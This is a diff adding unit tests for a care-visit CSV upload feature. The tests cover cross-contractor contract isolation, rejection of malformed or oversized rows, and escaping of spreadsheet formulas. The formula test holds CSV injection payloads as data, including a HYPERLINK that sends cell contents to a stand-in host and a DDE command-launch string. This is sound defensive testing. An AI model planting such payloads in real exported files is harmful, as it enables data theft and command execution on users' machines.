@@ -26,6 +26,12 @@ def csv_bytes(rows):
     return output.getvalue().encode('utf-8')
 
 
+def raw_csv(rows):
+    """CSV bytes of the header and rows, each row given as bytes (cells
+    already joined): to hold what no csv writer writes"""
+    return b'\n'.join([','.join(HEADER).encode('utf-8')] + rows) + b'\n'
+
+
 class VisitUploadTestCase(unittest.TestCase):
     "Upload visit logs"
 
@@ -116,3 +122,115 @@ class VisitUploadTestCase(unittest.TestCase):
             self.upload(user, data, 'bad.csv')
         self.assertIn('bad.csv', cm.exception.message)
         self.assertIn('身份证号', cm.exception.message)
+
+    def contractor_user_b(self, world):
+        pool = Pool()
+        User = pool.get('res.user')
+        ModelData = pool.get('ir.model.data')
+        user, = User.create([{'login': 'contractor_b', 'name': 'B',
+                    'groups': [('add', [ModelData.get_id(
+                                    'care_procurement', 'group_contractor')])],
+                    'care_contractor': world.contractors[1].id,
+                    'companies': [('add', [world.company.id])],
+                    'company': world.company.id}])
+        return user
+
+    @with_transaction()
+    def test_other_contract_is_as_unknown(self):
+        """A row naming another contractor's contract is rejected with the
+        reason of a contract that does not exist; that contractor's own
+        row with the same external id is stored afterwards"""
+        Visit = Pool().get('care.visit')
+        world = create_world()
+        user_a = self.contractor_user(world)
+        user_b = self.contractor_user_b(world)
+        mine, theirs = world.persons[0], world.persons[3]
+        result = self.upload(user_a, csv_bytes([
+                    ['B-1', 'HT-B', mine.id_number, 'HC-MEAL', '刘芳',
+                        '2025-03-03 09:00', '2025-03-03 09:40', '', ''],
+                    ['B-2', 'HT-NONE', mine.id_number, 'HC-MEAL', '刘芳',
+                        '2025-03-03 10:00', '2025-03-03 10:40', '', ''],
+                    ]))
+        rejected = list(csv.reader(io.StringIO(
+                    result['rejected'].decode('utf-8-sig'))))
+        self.assertEqual([r[0] for r in rejected[1:]], ['B-1', 'B-2'])
+        foreign, unknown = rejected[1][-1], rejected[2][-1]
+        self.assertEqual(foreign.replace('HT-B', '?'),
+            unknown.replace('HT-NONE', '?'))
+        self.assertFalse(Visit.search([
+                    ('contract', '=', world.contracts[1].id)]))
+
+        result = self.upload(user_b, csv_bytes([
+                    ['B-1', 'HT-B', theirs.id_number, 'HC-MEAL', '孙丽',
+                        '2025-03-03 09:00', '2025-03-03 09:40', '', '']]))
+        self.assertEqual(result['summary'], gettext(
+                'care_visit.msg_upload_summary', created=1, accepted=1,
+                rejected=0, unchanged=0, rows=0))
+        visit, = Visit.search([('contract', '=', world.contracts[1].id)])
+        self.assertEqual((visit.external_id, visit.caregiver_name),
+            ('B-1', '孙丽'))
+
+    @with_transaction()
+    def test_each_bad_row_rejected(self):
+        """A cell over the csv module's limit, bytes that are no text, a NUL,
+        times at the ends of the calendar, an external id of 10,000
+        characters: each its row rejected with a reason naming the column
+        and the limit; the good rows around them stored"""
+        Visit = Pool().get('care.visit')
+        world = create_world()
+        user = self.contractor_user(world)
+        number = world.persons[0].id_number.encode()
+
+        def line(external_id, caregiver=b'\xe5\x88\x98\xe8\x8a\xb3',
+                start=b'2025-03-03 09:00', end=b'2025-03-03 09:40'):
+            return b','.join([external_id, b'HT-A', number, b'HC-MEAL',
+                    caregiver, start, end, b'', b''])
+        rows = [
+            line(b'G-1'),
+            line(b'X-1', caregiver=b'"' + b'x' * 140000 + b'"'),
+            line(b'X-2', caregiver=b'\xff\xfe\x80\x81'),
+            line(b'X-3', caregiver=b'\xe5\x88\x98\x00'),
+            line(b'X-4', start=b'0001-01-01 00:00'),
+            line(b'X-5', end=b'9999-12-31 23:59'),
+            line(b'X-6', start=b'1899-12-31 09:00'),
+            line(b'Y' * 10000),
+            line(b'G-2', start=b'2025-03-04 09:00', end=b'2025-03-04 09:40'),
+            ]
+        result = self.upload(user, raw_csv(rows))
+        self.assertEqual(result['summary'], gettext(
+                'care_visit.msg_upload_summary', created=2, accepted=2,
+                rejected=0, unchanged=0, rows=7))
+        self.assertEqual({v.external_id for v in Visit.search([])},
+            {'G-1', 'G-2'})
+        rejected = list(csv.reader(io.StringIO(
+                    result['rejected'].decode('utf-8-sig'))))
+        self.assertEqual([r[-2] for r in rejected[1:]],
+            [str(n) for n in range(3, 10)])
+        reasons = [r[-1] for r in rejected[1:]]
+        for reason, words in zip(reasons, [
+                    ['服务人员', '100'], ['服务人员', 'NUL'],
+                    ['服务人员', 'NUL'], ['开始时间', '1900', '2100'],
+                    ['结束时间', '1900', '2100'], ['开始时间', '1900'],
+                    ['外部编号', '100']]):
+            for word in words:
+                self.assertIn(word, reason)
+        # The bytes that were no text come back replaced, not as an error
+        self.assertEqual(rejected[2][4], '\ufffd' * 4)
+
+    @with_transaction()
+    def test_formulas_escaped_in_rejected_rows(self):
+        "A cell written as a formula comes back as text in the rejected file"
+        world = create_world()
+        user = self.contractor_user(world)
+        number = world.persons[0].id_number
+        formulas = ['=HYPERLINK("http://x.example/?"&A1,"click")',
+            "=cmd|' /C calc'!A0", '+SUM(1+1)', '@SUM(1+1)', '-2+3',
+            '\t=1+1']
+        result = self.upload(user, csv_bytes([
+                    [formula, 'HT-NONE', number, 'HC-MEAL', '刘芳',
+                        '2025-03-03 09:00', '2025-03-03 09:40', '', '']
+                    for formula in formulas]))
+        rejected = list(csv.reader(io.StringIO(
+                    result['rejected'].decode('utf-8-sig'))))
+        self.assertEqual([r[0] for r in rejected[1:]],
+            ["'" + f for f in formulas])
